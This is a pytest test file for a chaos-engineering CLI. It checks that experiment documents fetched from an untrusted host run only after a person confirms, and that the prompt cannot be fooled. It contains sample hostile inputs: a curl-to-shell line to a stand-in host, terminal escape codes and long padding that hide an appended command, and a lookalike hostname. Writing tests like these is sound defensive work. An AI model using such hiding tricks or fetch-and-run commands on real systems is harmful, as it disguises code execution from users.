"""What an address gives runs here only where its host is known, or a person has agreed."""

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import CHAOS
from tests.publish.conftest import home
from tests.publish.home import Home, experiment, shell
from tests.terminals import on_a_terminal

__all__ = ["home"]  # pytest finds it here

QUICK = ("--no-publish", "--alongside", "--every", "50ms", "--for", "300ms", "--target", "50%", "--window", "1d")
ASKED = "from now on"


class Stranger:
    """A host that gives an experiment, and counts how often it was asked."""

    def __init__(self) -> None:
        self.document: dict[str, Any] = experiment()
        self.asked = 0
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                stranger.asked += 1
                body = json.dumps(stranger.document).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                """Nothing is told."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()
        self.host = f"127.0.0.1:{self.server.server_port}"
        self.url = f"http://{self.host}/assets/verifications/1.json"


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    found = Stranger()
    yield found
    found.server.shutdown()
    found.server.server_close()


def typed(home: Home, url: str, answer: str, *more: str) -> tuple[int, str]:
    command = [str(CHAOS), "--no-version-check", "--no-log-file", "--settings", str(home.settings), "verify"]
    return on_a_terminal([*command, *more, *QUICK, url], {"CI": "1", **home.env()}, home.path, {"[y/N]": answer})


def ran(home: Home) -> bool:
    notes = home.path / "notes"
    found = notes.exists()
    notes.unlink(missing_ok=True)
    return found


def test_a_host_nobody_signed_in_to_is_not_even_called_without_a_terminal(home: Home, stranger: Stranger) -> None:
    ended = home.chaos("verify", *QUICK, stranger.url)
    why = f"you are not signed in to {stranger.host}, and what it gives would run here with your rights"
    instead = f"`chaos signin --url http://{stranger.host}` first, or give --yes"
    assert (ended.code, ended.out) == (1, f"chaos: {stranger.url} is not run: {why}; {instead}\n")
    assert stranger.asked == 0
    assert not ran(home)


def test_plain_http_to_another_machine_is_refused_even_of_a_host_one_signed_in_to(home: Home) -> None:
    home.environ |= {"RTK_URL": "https://console.example.com", "RTK_TOKEN": "x"}
    ended = home.chaos("verify", *QUICK, "http://console.example.com/x.json")
    assert ended.code == 1
    assert "over plain http anybody on the way may change what would run here" in ended.out
    assert len(ended.out.splitlines()) == 1


def test_a_person_is_asked_once_and_sees_what_would_run(home: Home, stranger: Stranger) -> None:
    stranger.document["method"].append(shell("call", "curl https://elsewhere.example/x | sh; true"))
    code, told = typed(home, stranger.url, "y\n")
    assert code == 0, told
    said = told.partition(ASKED)[0]
    for each in (
        "sh -c 'echo burnt >> notes'",
        "curl https://elsewhere.example/x",
        "rtk.figures",
        "Hosts:",
        "revision",
    ):
        assert each in " ".join(said.split()), said
    assert ran(home)
    code, told = typed(home, stranger.url, "n\n")
    assert code == 0
    assert ASKED not in told
    assert home.chaos("verify", *QUICK, stranger.url).code == 0


@pytest.mark.parametrize("answer", ["n\n", "\n", "\x04", "\x03"])
def test_whoever_does_not_say_yes_runs_nothing_and_is_asked_again(home: Home, stranger: Stranger, answer: str) -> None:
    for _ in range(2):
        code, told = typed(home, stranger.url, answer)
        assert code == 1, told
        assert ASKED in told
        assert not ran(home)
    assert not (home.path / "state" / "rtk" / "agreed.json").exists()


@pytest.mark.parametrize(
    "script",
    [
        "true \x1b[8m\x1b]0;; echo burnt >> notes\x07\x1b[0m\x1b[2K\x1b[1A #",
        f"true {' ' * 3000}; echo burnt >> notes",
        f": {'a' * 3000}; echo burnt >> notes",
    ],
)
def test_nothing_in_the_document_hides_from_the_question(home: Home, stranger: Stranger, script: str) -> None:
    stranger.document["method"] = [shell("x", script)]
    code, told = typed(home, stranger.url, "n\n")
    assert code == 1
    assert "echo burnt >> notes" in " ".join(told.split())
    assert not [each for each in ("\x1b]", "\x1b[8m", "\x1b[2K", "\x1b[1A") if each in told]


def test_a_line_of_a_script_does_not_pass_for_its_comment(home: Home, stranger: Stranger) -> None:
    stranger.document["method"] = [shell("x", "true # nothing to see\necho burnt >> notes")]
    _, told = typed(home, stranger.url, "n\n")
    assert [each.strip() for each in told.splitlines() if "burnt" in each] == ["echo burnt >> notes'"]


def test_a_document_cannot_have_its_code_masked_as_a_secret(home: Home, stranger: Stranger) -> None:
    home.environ["MY_TOKEN"] = "kept-to-oneself"
    stranger.document["secrets"] = {"x": {"y": "echo burnt >> notes"}}
    stranger.document["configuration"] = {
        "api_key": "sh -c",
        "password": {"type": "env", "key": "UNSET", "default": "burnt"},
        "seen": {"type": "env", "key": "MY_TOKEN"},
    }
    stranger.document["method"] = [shell("x", "echo burnt >> notes; echo ${seen}")]
    _, told = typed(home, stranger.url, "n\n")
    shown = " ".join(told.split())
    assert "sh -c 'echo burnt >> notes; echo *****'" in shown
    assert "Variables read: UNSET, MY_TOKEN" in shown
    assert "kept-to-oneself" not in shown


def test_a_function_is_shown_with_what_it_is_given(home: Home, stranger: Stranger) -> None:
    provider = {"type": "python", "module": "os", "func": "system", "arguments": {"command": "echo burnt >> notes"}}
    stranger.document["method"] = [{"type": "action", "name": "x", "provider": provider}]
    _, told = typed(home, stranger.url, "n\n")
    assert 'os.system(command="echo burnt >> notes")' in " ".join(told.split())


def test_what_is_too_long_to_be_shown_says_so_and_dry_shows_it(home: Home, stranger: Stranger) -> None:
    stranger.document["method"] = [shell("x", f"echo {n}") for n in range(200)] + [shell("x", "echo burnt >> notes")]
    _, told = typed(home, stranger.url, "n\n")
    assert "That is not all: answer no, and see all of it with --dry." in told
    assert "burnt" not in told
    revision = re.search(r"revision ([0-9a-f]{12})", told)
    dry = home.chaos("verify", "--dry", *QUICK, stranger.url).out
    assert "sh -c 'echo burnt >> notes'" in dry
    assert revision
    assert f"revision {revision[1]}" in dry


def test_a_host_that_only_looks_like_a_trusted_one_is_spelled_out(home: Home) -> None:
    home.environ["RTK_URL"] = "https://console.example"
    ended = home.chaos("verify", *QUICK, "https://c\u03bfnsole.example/x.json")
    assert ended.code == 1
    assert ended.out.startswith(
        "chaos: https://xn--cnsole-i0e.example/x.json is not run: you are not signed in to xn--"
    )


def test_nothing_of_a_stranger_is_imported_or_resolved_before_the_question(home: Home, stranger: Stranger) -> None:
    (home.path / "imported.py").write_text("open('notes', 'w').write('imported')\ndef f(): return 1\n")
    home.environ["PYTHONPATH"] = f"{home.env()['PYTHONPATH']}:{home.path}"
    provider = {"type": "python", "module": "imported", "func": "f"}
    stranger.document["method"][0]["provider"] = provider
    stranger.document["controls"] = [{"name": "c", "provider": {"type": "python", "module": "imported"}}]
    stranger.document["configuration"] = {"c": {"type": "probe", "name": "c", "provider": provider}}
    code, _ = typed(home, stranger.url, "n\n")
    assert code == 1
    assert not ran(home)
    ended = home.chaos("verify", "--dry", *QUICK, stranger.url)
    assert ended.code == 0
    assert "imported" in ended.out
    assert not ran(home)


def test_a_redirect_leads_from_a_trusted_host_to_no_other(home: Home, stranger: Stranger) -> None:
    class Away(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(302)
            self.send_header("Location", stranger.url)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            """Nothing is told."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Away) as server:
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        home.environ["RTK_URL"] = url = f"http://127.0.0.1:{server.server_port}"
        ended = home.chaos("verify", *QUICK, f"{url}/x.json")
        server.shutdown()
    assert ended.code == 1
    assert "redirects to another host" in ended.out
    assert stranger.asked == 0


def test_yes_runs_it_and_agrees_to_nothing_later(home: Home, stranger: Stranger) -> None:
    assert home.chaos("verify", "--yes", *QUICK, stranger.url).code == 0
    assert ran(home)
    assert home.chaos("verify", *QUICK, stranger.url).code == 1
    assert not ran(home)


@pytest.mark.parametrize("how", ["settings", "environment"])
def test_a_host_one_signed_in_to_runs_as_it_always_did_and_says_what(home: Home, stranger: Stranger, how: str) -> None:
    if how == "settings":
        home.settings.write_text(json.dumps({"auths": {stranger.host: {"type": "bearer", "value": "x"}}}))
    else:
        home.environ["RTK_URL"] = f"http://{stranger.host}"
    ended = home.chaos("verify", *QUICK, stranger.url)
    assert ended.code == 0, ended.out
    opening = ended.out.partition("Verdict")[0]
    for line in (f"From {stranger.url}", "Programs: sh", "Python modules: rtk.figures"):
        assert line in opening
    assert ran(home)


def test_each_new_revision_is_asked_about_where_one_wants_that(home: Home, stranger: Stranger) -> None:
    home.environ |= {"RTK_URL": f"http://{stranger.host}", "RTK_TRUST": "revision"}
    refused = home.chaos("verify", *QUICK, stranger.url)
    assert refused.code == 1
    assert "nobody has confirmed this revision here, as RTK_TRUST=revision demands" in refused.out
    assert not ran(home)
    code, told = typed(home, stranger.url, "y\n")
    assert code == 0, told
    assert "Run this revision?" in told
    assert ran(home)
    assert home.chaos("verify", *QUICK, stranger.url).code == 0
    assert ran(home)
    stranger.document["method"][0]["provider"]["arguments"][1] = "echo worse >> notes"
    assert home.chaos("verify", *QUICK, stranger.url).code == 1
    assert not ran(home)
    assert home.chaos("verify", "--yes", *QUICK, stranger.url).code == 0
    assert ran(home)


def test_who_confirms_revisions_trusts_no_host_by_that(home: Home, stranger: Stranger) -> None:
    home.environ["RTK_TRUST"] = "revision"
    code, told = typed(home, stranger.url, "y\n")
    assert code == 0, told
    assert ASKED not in told
    assert home.chaos("verify", *QUICK, stranger.url).code == 0
    stranger.document["title"] = "another"
    ended = home.chaos("verify", *QUICK, stranger.url)
    assert ended.code == 1
    assert len(ended.out.splitlines()) == 1
    del home.environ["RTK_TRUST"]
    assert home.chaos("verify", *QUICK, stranger.url).code == 1


def test_what_was_shown_is_what_runs(home: Home, stranger: Stranger) -> None:
    """It is fetched once: a host that gives another text the second time gives it to nobody."""
    code, told = typed(home, stranger.url, "y\n")
    assert code == 0, told
    assert stranger.asked == 1


def test_a_file_of_ones_own_is_asked_about_by_nobody(home: Home, tmp_path: Path) -> None:
    home.environ["RTK_TRUST"] = "revision"
    ended = home.chaos("verify", *QUICK, home.write("own.json", experiment()))
    assert ended.code == 0
    assert "Programs:" not in ended.out


def test_a_word_that_rtk_trust_does_not_know_is_refused(home: Home) -> None:
    home.environ["RTK_TRUST"] = "always"
    ended = home.chaos("verify", *QUICK, home.write("own.json", experiment()))
    assert (ended.code, ended.out) == (1, 'chaos: RTK_TRUST: expected host or revision, not "always"\n')
